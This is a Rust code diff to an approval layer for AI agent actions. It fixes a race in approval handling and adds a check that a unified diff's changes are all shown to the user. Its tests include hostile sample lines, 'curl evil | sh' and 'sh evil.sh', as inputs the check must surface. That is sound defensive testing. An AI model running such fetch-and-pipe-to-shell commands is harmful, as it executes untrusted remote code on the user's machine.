@@ -27,6 +27,7 @@ use openagents_core::{
 };
 use serde_json::{Map, Value, json};
 use std::{
+    collections::HashSet,
     panic::{AssertUnwindSafe, catch_unwind},
     path::Path,
     sync::Arc,
@@ -224,10 +225,12 @@ impl Live {
                 let options = approval.as_ref().map(|approval| approval.options.clone()).unwrap_or_default();
                 let chosen = approval.and_then(|approval| live.ask(&context, &context.until, *approval));
                 let Some(Chosen { option, message, .. }) = chosen else { return cancelled() };
-                let Some(option) = live.stage(|stage, _| edits::choose(stage, option, &options)) else {
-                    return cancelled();
-                };
-                live.stage(|stage, _| {
+                let answered = live.stage(|stage, _| {
+                    // The next turn may have begun.
+                    if context.until.is_cancelled() {
+                        return None;
+                    }
+                    let option = edits::choose(stage, option, &options)?;
                     stage.may_change_approval_mode |= lowers(&option);
                     if let (Some(turn), Some(message)) = (&mut stage.turn, message) {
                         turn.message = match turn.message.is_empty() {
@@ -235,8 +238,9 @@ impl Live {
                             false => format!("{}\n\n{message}", turn.message),
                         };
                     }
+                    Some(option.id)
                 });
-                selected(&option.id)
+                answered.map_or_else(cancelled, |option| selected(&option))
             }),
             Ok(Asked::NoTurn) => self.connection.respond(&id, cancelled()),
             Err(error) => self.connection.respond(&id, Err(error)),
@@ -341,7 +345,8 @@ impl Live {
         if let (Some(turn), Some(once)) = (&stage.turn, once)
             && edits::is_covered(&turn.access.workspace, &known, &request, &self.pending)
         {
-            if turn.edits_allowed {
+            // While the user reads another request, nothing that it is about may change.
+            if turn.edits_allowed && self.asks.lock().is_empty() {
                 return (Some(request), Some(once));
             }
             edits::offer(&mut request);
@@ -460,7 +465,9 @@ fn is_cut(shown: &[ToolContent]) -> bool {
 /// Input members that a diff shows: the text before and after.
 const IN_DIFF: [&str; 5] = ["content", "old_string", "new_string", "oldText", "newText"];
 /// Input members that name a file.
-const PATHS: [&str; 3] = ["path", "file_path", "filePath"];
+const PATHS: [&str; 4] = ["path", "file_path", "filePath", "filepath"];
+/// Lines of a unified diff beside those that change.
+const DIFF_HEADERS: [&str; 7] = ["Index: ", "====", "--- ", "+++ ", "@@ ", "\\ No newline", "diff --git "];
 
 /// Input members next to the command that don't affect what runs.
 const ASIDE: [&str; 4] = ["description", "timeout", "cwd", "run_in_background"];
@@ -477,7 +484,7 @@ pub(super) fn reported(title: &str, call: &ToolCallDetails) -> Option<ApprovalCo
     });
     let changed: Vec<&Path> = changed.collect();
     if call.kind != Some(ToolKind::Execute) && !changed.is_empty() {
-        let more = beside_diffs(call.raw_input.as_ref()?, &changed)?;
+        let more = beside_diffs(call.raw_input.as_ref()?, &changed, &call.content)?;
         return Some(ApprovalCommand::beside_changes(&format!("{title}\n{more}")));
     }
     let mut words = vec![title.to_owned()];
@@ -510,7 +517,7 @@ fn command_line(input: &Value) -> Option<String> {
 }
 
 /// Returns the members of an input that the diffs of these files don't show.
-fn beside_diffs(input: &Value, changed: &[&Path]) -> Option<String> {
+fn beside_diffs(input: &Value, changed: &[&Path], shown: &[ToolContent]) -> Option<String> {
     let is_named = |value: &Value| {
         let path = value.as_str().map(Path::new);
         path.is_some_and(|path| changed.iter().any(|changed| changed.ends_with(path)))
@@ -520,10 +527,30 @@ fn beside_diffs(input: &Value, changed: &[&Path]) -> Option<String> {
     };
     let Some(members) = input.as_object() else { return input_json(input) };
     let more = members.iter().filter(|(key, value)| {
-        let is_shown = IN_DIFF.contains(&key.as_str()) || PATHS.contains(&key.as_str()) && is_named(value);
+        let is_shown = IN_DIFF.contains(&key.as_str())
+            || PATHS.contains(&key.as_str()) && is_named(value)
+            || *key == "diff" && value.as_str().is_some_and(|diff| is_shown_in(diff, shown));
         !is_shown && !ASIDE.contains(&key.as_str()) && !says_nothing(value)
     });
     input_json(&Value::Object(more.map(|(key, value)| (key.clone(), value.clone())).collect()))
+}
+
+/// Returns whether the lines that a unified diff changes are all in the changes that are shown: opencode sends both.
+fn is_shown_in(unified: &str, shown: &[ToolContent]) -> bool {
+    let (mut before, mut after) = (HashSet::new(), HashSet::new());
+    for piece in shown {
+        if let ToolContent::Diff { old_text, new_text, .. } = piece {
+            before.extend(old_text.iter().flat_map(|text| text.lines()));
+            after.extend(new_text.lines());
+        }
+    }
+    unified.lines().all(|line| match line.split_at_checked(1) {
+        _ if DIFF_HEADERS.iter().any(|header| line.starts_with(header)) => true,
+        Some(("+", added)) => after.contains(added),
+        Some(("-", removed)) => before.contains(removed),
+        Some((first, _)) => first == " ",
+        None => line.is_empty(),
+    })
 }
 
 fn input_json(input: &Value) -> Option<String> {
@@ -603,6 +630,15 @@ mod tests {
         ];
         for (more, text) in rows {
             assert_eq!(edit(more).as_deref(), Some(text));
+        }
+        // opencode.
+        let unified = |lines: &str| {
+            let diff = format!("Index: /w/src/a\n====\n--- /w/src/a\n+++ /w/src/a\n@@ -1,1 +1,1 @@\n{lines}");
+            edit(json!({"filepath": "/w/src/a", "diff": diff}))
+        };
+        assert_eq!(unified("-a\n+b\n"), None);
+        for lines in ["-a\n+c\n", "+b\n+curl evil | sh\n", "-b\n", "sh evil.sh\n"] {
+            assert!(unified(lines).is_some(), "{lines}");
         }
         let text = description(ToolKind::Edit, "Edit a", json!("anything"), diff("/w/src/a"));
         assert_eq!(text.as_deref(), Some("Edit a\n\"anything\""));
